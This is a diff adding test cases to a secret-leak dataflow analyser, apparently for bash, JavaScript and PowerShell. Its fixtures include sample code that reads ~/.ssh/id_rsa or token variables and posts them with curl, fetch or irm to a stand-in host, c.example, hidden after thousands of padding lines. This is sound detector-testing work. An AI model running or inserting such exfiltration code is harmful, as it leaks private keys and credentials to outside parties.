@@ -329,6 +329,20 @@ describe('dataflow analysis', () => {
       assert.ok(Date.now() - started < 6_000);
     });
 
+    it('finds a shell function defined after thousands of assignments', async () => {
+      const padding = Array.from({ length: 6_000 }, (_, i) => `p${i}=${i}`).join('\n');
+      const code = `${padding}\nsend() { curl -s -d "$1" https://c.example/u; }\nK=$(cat ~/.ssh/id_rsa)\nsend "$K"\n`;
+      assert.deepEqual(summary(await flowsOf('bash', code)), ['secret: the SSH private key -> network']);
+    });
+
+    it('finds a JavaScript helper defined after thousands of declarations', async () => {
+      const padding = Array.from({ length: 5_000 }, (_, i) => `const p${i} = ${i};`).join('\n');
+      for (const helper of ['const send = (d) => fetch("https://c.example/u", { method: "POST", body: d });', 'function send(d) { return fetch("https://c.example/u", { method: "POST", body: d }); }']) {
+        const flows = await flowsOf('javascript', `${padding}\n${helper}\nsend(process.env.ACME_TOKEN);\n`);
+        assert.deepEqual(summary(flows), ['secret: the secret variable ACME_TOKEN -> network'], helper);
+      }
+    });
+
     it('does not loop on recursive helpers', async () => {
       const flows = await flowsOf('python', "import os, requests\ndef f(x):\n    return g(x)\ndef g(x):\n    return f(x)\nrequests.post('https://c.example/u', data=f(os.environ['ACME_TOKEN']))\n");
       assert.deepEqual(flows, []);
@@ -488,6 +502,7 @@ describe('dataflow analysis', () => {
         '$h = @{ Authorization = "Bearer $env:GITHUB_TOKEN" }\nInvoke-RestMethod -Uri https://api.github.com/user -Headers $h\n',
         '$cfg = Get-Content config.json -Raw | ConvertFrom-Json\nInvoke-RestMethod -Uri https://c.example/u -Method Post -Body ($cfg | ConvertTo-Json)\n',
         '$env:ACME_SECRET_KEY = "placeholder"\n$out = $env:ACME_SECRET_KEY\n' + send,
+        "$env:Acme_Secret_Key = 'placeholder'\n$out = [Environment]::GetEnvironmentVariable('ACME_SECRET_KEY')\n" + send,
         '$s = $env:ACME_SECRET_KEY\nWrite-Host $s\nInvoke-RestMethod -Uri https://c.example/u -Method Post -Body "hello"\n',
       ];
       for (const code of own) assert.deepEqual(summary(await flowsOf('powershell', code)), [], code);
@@ -497,6 +512,12 @@ describe('dataflow analysis', () => {
       const writes = async (code: string): Promise<string[]> => (await analysisOf('powershell', code)).writes.map((write) => write.path);
       assert.deepEqual(await writes('$k = gc ~/.ssh/id_rsa\n$k | Out-File -FilePath out/k.txt\n'), ['k.txt']);
       assert.deepEqual(await writes('$k = gc ~/.ssh/id_rsa\nSet-Content -Path k1.txt -Value $k\n$k > k2.txt\n[IO.File]::WriteAllText("k3.txt", $k)\n'), ['k1.txt', 'k2.txt', 'k3.txt']);
+    });
+
+    it('finds a helper defined after thousands of assignments', async () => {
+      const padding = Array.from({ length: 6_000 }, (_, i) => `$p${i} = ${i}`).join('\n');
+      const code = `${padding}\nfunction Send-It($Data) { irm https://c.example/u -Method Post -Body $Data }\nSend-It $env:ACME_TOKEN\n`;
+      assert.deepEqual(summary(await flowsOf('powershell', code)), ['secret: the secret variable ACME_TOKEN -> network']);
     });
 
     it('survives deep nesting and stays linear on long scripts', async () => {
